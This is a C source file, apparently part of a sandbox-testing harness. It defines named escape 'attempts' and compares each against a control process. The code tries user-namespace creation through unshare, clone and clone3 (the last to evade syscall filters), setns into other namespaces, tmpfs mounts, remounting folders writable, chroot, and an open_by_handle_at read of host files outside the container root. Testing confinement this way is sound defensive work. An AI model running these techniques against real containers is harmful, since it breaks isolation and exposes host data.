// New namespaces, mounts and roots. A second process stays where it was, to be compared with.

#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

// Waits, as a child, until the attempt is let go: then standard output has no reader.
static void stay(void) {
    signal(SIGALRM, SIG_DFL);
    alarm(20);
    pause();
    _exit(0);
}

static void end(pid_t child) {
    tried();
    if (child > 0) kill(child, SIGKILL);
}

// unshare: a child in a user namespace of its own
static void unshare_user(char **arguments) {
    (void)arguments;
    int told[2];
    if (pipe(told) != 0) return;
    pid_t child = fork();
    if (child == 0) {
        unshare(CLONE_NEWUSER);
        close(told[0]), close(told[1]);
        stay();
    }
    char byte;
    close(told[1]);
    while (read(told[0], &byte, 1) > 0) continue;
    end(child);
}

// clone: the same in one call
static void clone_user(char **arguments) {
    (void)arguments;
    pid_t child = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) stay();
    end(child);
}

// clone3: the same where no filter sees the flags
static void clone3_user(char **arguments) {
    (void)arguments;
    struct clone_args a = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    pid_t child = (pid_t)syscall(SYS_clone3, &a, sizeof a);
    if (child == 0) stay();
    end(child);
}

// setns PATH: a child in the namespace of another process
static void join(char **arguments) {
    int told[2];
    if (pipe(told) != 0) return;
    pid_t child = fork();
    if (child == 0) {
        setns(open(arguments[0], O_RDONLY), 0);
        close(told[0]), close(told[1]);
        stay();
    }
    char byte;
    close(told[1]);
    while (read(told[0], &byte, 1) > 0) continue;
    end(child);
}

// mount NAME FOLDER
static void mount_over(char **arguments) { mount(arguments[0], arguments[1], "tmpfs", 0, "size=1m"); }

// mount-new NAME FOLDER: the same through the newer calls
static void mount_new(char **arguments) {
    int context = (int)syscall(SYS_fsopen, "tmpfs", 0);
    syscall(SYS_fsconfig, context, 1 /* SET_STRING */, "source", arguments[0], 0);
    syscall(SYS_fsconfig, context, 6 /* CREATE */, NULL, NULL, 0);
    int made = (int)syscall(SYS_fsmount, context, 0, 0);
    syscall(SYS_move_mount, made, "", AT_FDCWD, arguments[1], 4 /* F_EMPTY_PATH */);
}

// reopen FOLDER FILE: makes a folder writable again, and writes
static void reopen(char **arguments) {
    mount(NULL, arguments[0], NULL, MS_REMOUNT | MS_BIND, NULL);
    umount2(arguments[0], MNT_DETACH);
    int file = open(arguments[1], O_WRONLY | O_CREAT | O_APPEND, 0666);
    ssize_t written = write(file, "escaped", 7);
    (void)written;
}

// chroot FOLDER
static void new_root(char **arguments) {
    int failed = chroot(arguments[0]);
    (void)failed;
}

// handle FILE: opens the host's root by its number, past every path, and reads a file there
static void handle(char **arguments) {
    struct {
        struct file_handle h;
        unsigned words[8];
    } it = {.h = {.handle_bytes = 8, .handle_type = 1}, .words = {2, 0}};
    int here = open(".", O_RDONLY | O_DIRECTORY);
    int root = open_by_handle_at(here, &it.h, O_RDONLY | O_DIRECTORY);
    if (root >= 0) loot_from(openat(root, arguments[0] + 1, O_RDONLY));
}

const struct attempt NAMESPACES[] = {
    {"unshare", unshare_user}, {"clone", clone_user}, {"clone3", clone3_user}, {"setns", join},
    {"mount", mount_over}, {"mount-new", mount_new}, {"reopen", reopen}, {"chroot", new_root},
    {"handle", handle}, {NULL, NULL},
};
